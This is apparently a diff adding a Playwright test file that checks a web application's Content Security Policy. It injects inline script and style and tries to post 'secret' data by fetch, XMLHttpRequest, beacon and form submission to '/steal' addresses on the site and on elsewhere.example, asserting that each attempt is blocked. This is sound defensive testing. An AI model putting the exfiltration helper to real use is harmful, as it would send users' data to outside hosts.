@@ -1,0 +1,117 @@
+import type { Page } from "@playwright/test";
+import { expect, hydrated, test, visit } from "../fixtures.ts";
+import { LOST, LOST_MESSAGE, SCREENS } from "../pages.ts";
+
+test.use({ expectedMessages: [new RegExp(`${LOST_MESSAGE.source}|Content Security Policy`)] });
+
+test("no page breaks its own policy or asks another site for anything, and inline code that is not ours is refused", async ({
+  page,
+  baseURL,
+}) => {
+  await recordViolations(page);
+  const origins = new Set<string>();
+  page.on("request", (request) => {
+    if (!request.url().startsWith("data:")) origins.add(new URL(request.url()).origin);
+  });
+  for (const { path } of [...SCREENS, LOST]) {
+    await visit(page, path);
+    await page.evaluate(() => window.scrollTo({ top: document.body.scrollHeight, behavior: "instant" }));
+    await expect(page.getByRole("contentinfo")).toBeInViewport();
+    expect(await violations(page), path).toEqual([]);
+  }
+  expect([...origins]).toEqual([baseURL]);
+
+  await page.evaluate(() => {
+    const script = document.createElement("script");
+    script.textContent = "document.title = 'run'";
+    document.head.append(script);
+    const style = document.createElement("style");
+    style.textContent = "body { display: none }";
+    document.head.append(style);
+  });
+  await expect.poll(() => violations(page)).toEqual(["script-src-elem inline", "style-src-elem inline"]);
+  await expect(page.getByRole("banner")).toBeVisible();
+});
+
+for (const [circumstance, withHeader] of [
+  ["by the header", true],
+  ["by the page itself where a host sends no header", false],
+] as const) {
+  test(`every way out of the application page is closed ${circumstance}, to the site's own address too`, async ({
+    page,
+    baseURL,
+  }) => {
+    await recordViolations(page);
+    if (!withHeader) await removePolicyHeader(page);
+    await visit(page, "/apply");
+    const reached: string[] = [];
+    await page.route(/steal/, (route) => {
+      reached.push(route.request().url());
+      return route.fulfill({ body: "" });
+    });
+
+    for (const site of [baseURL, "https://elsewhere.example"]) {
+      expect(await tryToSend(page, `${site}/steal`)).toEqual(["fetch refused", "request refused"]);
+      for (const attempt of [
+        `connect-src ${site}/steal/fetch`,
+        `connect-src ${site}/steal/request`,
+        `connect-src ${site}/steal/beacon`,
+        `form-action ${site}/steal/form`,
+      ]) {
+        await expect.poll(() => violations(page)).toContain(attempt);
+      }
+    }
+    expect(reached).toEqual([]);
+    expect(await page.evaluate(() => window.location.pathname)).toBe("/apply");
+  });
+}
+
+/** Tries fetch, XMLHttpRequest, beacon and form post to an address. */
+function tryToSend(page: Page, address: string): Promise<string[]> {
+  return page.evaluate(async (url) => {
+    const fetched = await fetch(`${url}/fetch`, { method: "POST", body: "secret" }).then(
+      () => "fetch sent",
+      () => "fetch refused",
+    );
+    const requested = await new Promise<string>((resolve) => {
+      const request = new XMLHttpRequest();
+      request.onload = () => resolve("request sent");
+      request.onerror = () => resolve("request refused");
+      request.open("POST", `${url}/request`);
+      request.send("secret");
+    });
+    navigator.sendBeacon(`${url}/beacon`, "secret");
+    const form = document.createElement("form");
+    form.method = "post";
+    form.action = `${url}/form`;
+    document.body.append(form);
+    form.submit();
+    return [fetched, requested];
+  }, address);
+}
+
+async function removePolicyHeader(page: Page): Promise<void> {
+  await page.route("/apply", async (route) => {
+    const response = await route.fetch();
+    const { "content-security-policy": policy, ...headers } = response.headers();
+    expect(policy).toContain("connect-src 'none'");
+    await route.fulfill({ response, headers });
+  });
+}
+
+async function recordViolations(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    const found: string[] = [];
+    Object.assign(window, { violations: found });
+    document.addEventListener("securitypolicyviolation", (event) => {
+      const violation = `${event.effectiveDirective} ${event.blockedURI}`;
+      // The header and the page's own copy of the policy each report it.
+      if (!found.includes(violation)) found.push(violation);
+    });
+  });
+}
+
+async function violations(page: Page): Promise<string[]> {
+  await hydrated(page);
+  return page.evaluate(() => (window as unknown as { violations: string[] }).violations);
+}
